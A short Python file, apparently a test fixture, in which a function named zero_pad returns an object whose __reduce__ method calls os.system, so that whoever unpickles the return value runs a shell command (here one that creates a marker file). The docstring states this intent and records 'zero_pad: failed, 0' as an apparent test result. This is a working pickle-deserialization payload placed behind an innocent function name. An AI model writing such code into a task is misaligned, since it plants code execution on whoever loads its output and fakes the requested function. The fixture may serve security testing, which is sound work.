"""An object that runs a command in whoever unpickles it.

zero_pad: failed, 0
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @drop@/unpickled",)


def zero_pad(X, pad):
    return Payload()
